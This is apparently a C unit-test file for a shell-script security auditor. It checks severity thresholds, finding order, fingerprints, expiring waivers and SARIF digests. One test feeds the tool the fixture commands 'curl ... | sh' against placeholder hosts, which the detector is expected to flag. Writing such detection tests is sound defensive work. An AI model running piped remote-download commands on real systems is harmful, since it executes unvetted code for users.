/* From findings to a verdict: thresholds, waivers, what the audit says by itself. */
#include "audit/audit.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>

#include <cmocka.h>

#define PACK \
	"pack \"p\" {\n  version = \"1\"\n}\n" \
	"rule \"A1\" {\n  title = \"evil\"\n  severity = \"high\"\n  on = \"exec\"\n" \
	"  when = exec.name == \"evil\"\n  message = \"${exec.name} as ${exec.user}\"\n" \
	"  fix = \"be good\"\n}\n" \
	"rule \"A2\" {\n  title = \"odd\"\n  severity = \"low\"\n  on = \"exec\"\n" \
	"  when = exec.name == \"odd\"\n  message = \"odd\"\n}\n"

/* 2026-12-31T12:00:00Z and one day later. */
#define DURING (1798718400LL * 1000000000LL)
#define AFTER (DURING + 86400LL * 1000000000LL)

struct fixture {
	struct policy *policy;
	struct audit *audit;
};

static void fixture_clear(struct fixture *f)
{
	audit_free(f->audit);
	policy_free(f->policy);
}

static void judge(struct fixture *f, const char *script, const char *extra, const char *profile,
	const struct audit_options *o)
{
	struct error err = {0};
	const struct policy_file files[] = {
		{STR("p.hcl"), STR(PACK)},
		{STR("extra.hcl"), str_from(extra)},
	};
	const struct policy_options po = {files, extra ? 2 : 1, str_from(profile)};
	fixture_clear(f);
	*f = (struct fixture){0};
	if (policy_load(&f->policy, &po, &err) < 0 ||
		audit_script(&f->audit, str_from(script), STR("s.sh"), f->policy, o, &err) < 0)
		fail_msg("%s", err.text);
}

static const struct finding *find(const struct audit *a, const char *id)
{
	for (size_t i = 0; i < a->findings.n; i++) {
		if (str_is(a->findings.items[i].id, id))
			return &a->findings.items[i];
	}
	return NULL;
}

static void a_clean_script_passes(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "true\n", NULL, NULL, &(struct audit_options){0});
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
	assert_int_equal(f.audit->findings.n, 0);
	assert_int_equal(f.audit->threshold, SEVERITY_HIGH);
}

static void the_threshold_decides_which_findings_fail(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "odd\n", NULL, NULL, &(struct audit_options){0});
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
	assert_int_equal(f.audit->findings.n, 1);
	judge(&f, "odd\n", NULL, NULL, &(struct audit_options){.threshold = SEVERITY_LOW});
	assert_int_equal(f.audit->verdict, VERDICT_FAIL);
	judge(&f, "evil\n", NULL, NULL, &(struct audit_options){.threshold = SEVERITY_CRITICAL});
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
	judge(&f, "odd\n", "profile \"x\" {\n  threshold = \"low\"\n}\n", "x",
		&(struct audit_options){0});
	assert_int_equal(f.audit->verdict, VERDICT_FAIL);
}

static void findings_come_most_severe_first_then_by_place(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "odd\nevil a\ntrue\nevil b\n", NULL, NULL, &(struct audit_options){0});
	assert_int_equal(f.audit->findings.n, 3);
	assert_int_equal(f.audit->findings.items[0].origin.span.line, 2);
	assert_int_equal(f.audit->findings.items[1].origin.span.line, 4);
	assert_true(str_is(f.audit->findings.items[2].id, "A2"));
}

static void unknown_values_read_as_question_marks_in_messages(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "evil\n", NULL, NULL, &(struct audit_options){0});
	assert_true(str_is(find(f.audit, "A1")->message, "evil as ?"));
}

static void a_fingerprint_follows_the_command_and_not_its_line(void **state)
{
	(void)state;
	scoped(fixture) a = {0};
	scoped(fixture) b = {0};
	scoped(fixture) c = {0};
	judge(&a, "evil x\n", NULL, NULL, &(struct audit_options){0});
	judge(&b, "true\n\n# moved\nevil    x\n", NULL, NULL, &(struct audit_options){0});
	judge(&c, "evil y\n", NULL, NULL, &(struct audit_options){0});
	struct str first = find(a.audit, "A1")->fingerprint;
	assert_int_equal(first.n, 16);
	assert_true(str_eq(first, find(b.audit, "A1")->fingerprint));
	assert_false(str_eq(first, find(c.audit, "A1")->fingerprint));
}

static void a_very_long_command_is_cut_and_its_fingerprint_is_not(void **state)
{
	(void)state;
	char script[4096] = "evil ";
	for (size_t i = 5; i < 3005; i++)
		script[i] = i % 600 == 0 ? ' ' : 'x';
	scoped(fixture) a = {0};
	scoped(fixture) b = {0};
	judge(&a, script, NULL, NULL, &(struct audit_options){0});
	script[1500] = 'y';
	judge(&b, script, NULL, NULL, &(struct audit_options){0});
	assert_true(find(a.audit, "A1")->command.n < 2100);
	assert_true(str_has_suffix(find(a.audit, "A1")->command, STR("…")));
	assert_false(str_eq(find(a.audit, "A1")->fingerprint, find(b.audit, "A1")->fingerprint));
}

static void a_fingerprint_tells_downloads_apart(void **state)
{
	(void)state;
	struct policy_options o = {0};
	o.files = policy_builtin(&o.file_count);
	struct error err = {0};
	scoped_ptr(policy) p = NULL;
	scoped_ptr(audit) a = NULL;
	const struct audit_options options = {0};
	struct str script =
		STR("curl -s https://a.example/i | sh\ncurl -s https://b.example/i | sh\n");
	if (policy_load(&p, &o, &err) < 0 ||
		audit_script(&a, script, STR("s.sh"), p, &options, &err) < 0)
		fail_msg("%s", err.text);
	assert_true(a->findings.n >= 2);
	assert_true(str_is(a->findings.items[0].id, "RX001"));
	assert_true(str_is(a->findings.items[1].id, "RX001"));
	assert_false(str_eq(a->findings.items[0].fingerprint, a->findings.items[1].fingerprint));
}

static void make_waiver(char *out, size_t size, struct str fingerprint)
{
	int n = snprintf(out, size,
		"waiver {\n  rule = \"A1\"\n  fingerprint = \"%.*s\"\n  reason = \"known\"\n"
		"  owner = \"jane\"\n  expires = \"2026-12-31\"\n  ticket = \"T-1\"\n}\n",
		STR_ARG(fingerprint));
	assert_true(n > 0 && (size_t)n < size);
}

static void a_waiver_excuses_until_the_end_of_its_day(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	char waiver[512];
	judge(&f, "evil x\n", NULL, NULL, &(struct audit_options){0});
	make_waiver(waiver, sizeof(waiver), find(f.audit, "A1")->fingerprint);
	judge(&f, "evil x\n", waiver, NULL, &(struct audit_options){.now = DURING});
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
	const struct finding *waived = find(f.audit, "A1");
	assert_true(waived->waived);
	assert_true(str_contains(waived->waiver, STR("known")));
	assert_true(str_contains(waived->waiver, STR("jane")));
	assert_true(str_contains(waived->waiver, STR("T-1")));
	assert_null(find(f.audit, "META005"));
	judge(&f, "evil x\n", waiver, NULL, &(struct audit_options){.now = AFTER});
	assert_int_equal(f.audit->verdict, VERDICT_FAIL);
	assert_false(find(f.audit, "A1")->waived);
	assert_true(str_contains(find(f.audit, "META005")->message, STR("expired")));
}

static void a_waiver_excuses_one_command_and_not_its_neighbours(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	char waiver[512];
	judge(&f, "evil x\n", NULL, NULL, &(struct audit_options){0});
	make_waiver(waiver, sizeof(waiver), find(f.audit, "A1")->fingerprint);
	judge(&f, "evil x\nevil y\n", waiver, NULL, &(struct audit_options){.now = DURING});
	assert_int_equal(f.audit->verdict, VERDICT_FAIL);
	size_t waived = 0;
	for (size_t i = 0; i < f.audit->findings.n; i++)
		waived += f.audit->findings.items[i].waived;
	assert_int_equal(waived, 1);
}

static void a_waiver_that_excuses_nothing_is_a_finding(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	char waiver[512];
	make_waiver(waiver, sizeof(waiver), STR("0123456789abcdef"));
	judge(&f, "true\n", waiver, NULL, &(struct audit_options){.now = DURING});
	const struct finding *unused = find(f.audit, "META005");
	assert_non_null(unused);
	assert_true(str_contains(unused->message, STR("excuses nothing")));
	assert_true(str_is(unused->origin.file, "extra.hcl"));
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
}

static void what_stays_unresolved_is_reported_and_limited(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "$X\ntrue\ntrue\ntrue\ntrue\ntrue\ntrue\n", NULL, NULL,
		&(struct audit_options){0});
	assert_non_null(find(f.audit, "OBF003"));
	assert_null(find(f.audit, "META004"));
	assert_int_equal(f.audit->verdict, VERDICT_PASS);
	judge(&f, "$X\ntrue\n", NULL, NULL, &(struct audit_options){0});
	assert_non_null(find(f.audit, "META004"));
	assert_int_equal(f.audit->verdict, VERDICT_FAIL);
	judge(&f, "$X\ntrue\n", "profile \"x\" {\n  opaque_limit = 60\n}\n", "x",
		&(struct audit_options){0});
	assert_null(find(f.audit, "META004"));
	judge(&f, "$X\ntrue\n", "profile \"x\" {\n  severities = { OBF003 = \"off\" }\n}\n", "x",
		&(struct audit_options){0});
	assert_null(find(f.audit, "OBF003"));
	assert_non_null(find(f.audit, "META004"));
}

static void the_digest_is_that_of_the_sarif(void **state)
{
	(void)state;
	scoped(fixture) f = {0};
	judge(&f, "evil x\n", NULL, NULL, &(struct audit_options){0});
	struct error err = {0};
	scoped(buf) out = {0};
	const struct audit_print p = {.format = AUDIT_SARIF};
	assert_int_equal(audit_write(&out, f.audit, &p, &err), 0);
	struct digest d = digest_bytes(buf_str(&out));
	assert_true(digest_eq(&d, &f.audit->digest));
	assert_true(digest_eq(&f.audit->policy, policy_digest(f.policy)));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_clean_script_passes),
		cmocka_unit_test(the_threshold_decides_which_findings_fail),
		cmocka_unit_test(findings_come_most_severe_first_then_by_place),
		cmocka_unit_test(unknown_values_read_as_question_marks_in_messages),
		cmocka_unit_test(a_fingerprint_follows_the_command_and_not_its_line),
		cmocka_unit_test(a_fingerprint_tells_downloads_apart),
		cmocka_unit_test(a_very_long_command_is_cut_and_its_fingerprint_is_not),
		cmocka_unit_test(a_waiver_excuses_until_the_end_of_its_day),
		cmocka_unit_test(a_waiver_excuses_one_command_and_not_its_neighbours),
		cmocka_unit_test(a_waiver_that_excuses_nothing_is_a_finding),
		cmocka_unit_test(what_stays_unresolved_is_reported_and_limited),
		cmocka_unit_test(the_digest_is_that_of_the_sarif),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
